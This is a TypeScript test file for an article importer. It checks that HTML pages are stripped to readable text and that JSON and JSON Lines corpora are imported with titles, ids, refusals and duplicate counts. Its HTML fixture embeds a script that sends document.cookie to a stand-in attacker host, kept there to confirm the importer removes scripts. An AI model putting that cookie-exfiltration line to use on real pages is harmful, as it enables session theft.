import { readFile } from 'node:fs/promises'
import { join } from 'node:path'

import { describe, expect, it } from 'vitest'

import { ok, openedProject, readJson, setup } from './support/project-fixture'

const upload = (name: string, content: string) => ({
  name,
  base64: Buffer.from(content, 'utf8').toString('base64'),
})

interface Entry {
  readonly id: string
  readonly title: string
  readonly sourceName: string
}

async function index(project: string): Promise<Entry[]> {
  return ((await readJson(join(project, 'documents', 'index.json'))) as { documents: Entry[] })
    .documents
}

const PAGE = `<!doctype html>
<html><head><title>Harbour &amp; city pledge</title>
<style>p { color: red }</style>
<script>document.title = 'pwned'; alert('from the head')</script></head>
<body><h1>Council news</h1>
<p>The council <b>will add</b> <a href="https://example.com/routes">14 bus routes</a>.</p>
<script>fetch('https://evil.example/?' + document.cookie)</script>
<ul><li>Faster trips</li><li>More stops</li></ul>
<p>Ridership&nbsp;rose 8%.<br>Said the lead.</p></body></html>`

describe('importing HTML articles', () => {
  it('keeps the readable text: blocks on their own lines, links as words, no scripts or styles', async () => {
    const where = await setup()
    const handlers = await openedProject(where)
    const summary = await ok(handlers, 'importUploads', { files: [upload('page.html', PAGE)] })

    expect(summary.imported).toBe(1)
    const [entry] = await index(where.project)
    const text = await readFile(join(where.project, 'documents', `${entry?.id}.txt`), 'utf8')
    expect(text).toBe(
      'Council news\n\nThe council will add 14 bus routes.\n\n * Faster trips\n * More stops\n\nRidership\u00a0rose 8%.\nSaid the lead.',
    )
    expect(text).not.toMatch(/pwned|evil|alert|color|https?:/u)
  })

  it('takes the title from <title>, else from the first heading', async () => {
    const where = await setup()
    const handlers = await openedProject(where)
    await ok(handlers, 'importUploads', {
      files: [
        upload('titled.htm', PAGE),
        upload('untitled.html', '<body><p>Intro</p><h2>Second  heading</h2><p>Body</p></body>'),
      ],
    })
    expect((await index(where.project)).map((entry) => [entry.title, entry.sourceName])).toEqual([
      ['Harbour & city pledge', 'titled.htm'],
      ['Second heading', 'untitled.html'],
    ])
  })
})

describe('importing JSON corpora', () => {
  it('imports one article per object of a .json list, keeping titles and ids', async () => {
    const where = await setup()
    const handlers = await openedProject(where)
    const corpus = JSON.stringify([
      { id: 'a1', title: 'First story', text: 'One article.\r\nWith CRLF.\r\n', meta: { x: 1 } },
      { text: 'Second article.' },
    ])
    const summary = await ok(handlers, 'importUploads', { files: [upload('corpus.json', corpus)] })

    expect([summary.imported, summary.refused]).toEqual([2, 0])
    const entries = await index(where.project)
    expect(entries.map((entry) => [entry.title, entry.sourceName])).toEqual([
      ['First story', 'corpus.json#a1'],
      ['Second article.', 'corpus.json'],
    ])
    expect(await readFile(join(where.project, 'documents', `${entries[0]?.id}.txt`), 'utf8')).toBe(
      'One article.\nWith CRLF.\n',
    )
  })

  it('names the JSON Lines line that has no text and imports the others', async () => {
    const where = await setup()
    const handlers = await openedProject(where)
    const lines = '{"text": "Alpha."}\n{"title": "No text here"}\n{"text": "Gamma."}\n'
    const summary = await ok(handlers, 'importUploads', { files: [upload('c.jsonl', lines)] })

    expect(summary).toEqual({
      imported: 2,
      duplicates: 0,
      refused: 1,
      outcomes: [
        {
          source: 'c.jsonl',
          result: 'refused',
          reason: 'line 2: "text" is nothing, not the article\'s text; skipped',
        },
        { source: 'c.jsonl', result: 'imported', docId: expect.any(String), title: 'Alpha.' },
        { source: 'c.jsonl', result: 'imported', docId: expect.any(String), title: 'Gamma.' },
      ],
    })
    expect((await index(where.project)).length).toBe(2)
  })

  it('counts an article repeated inside one corpus as a duplicate', async () => {
    const where = await setup()
    const handlers = await openedProject(where)
    const lines = '{"text": "Same."}\n{"text": "Same."}\n'
    const summary = await ok(handlers, 'importUploads', { files: [upload('twice.jsonl', lines)] })
    expect([summary.imported, summary.duplicates]).toEqual([1, 1])
  })
})
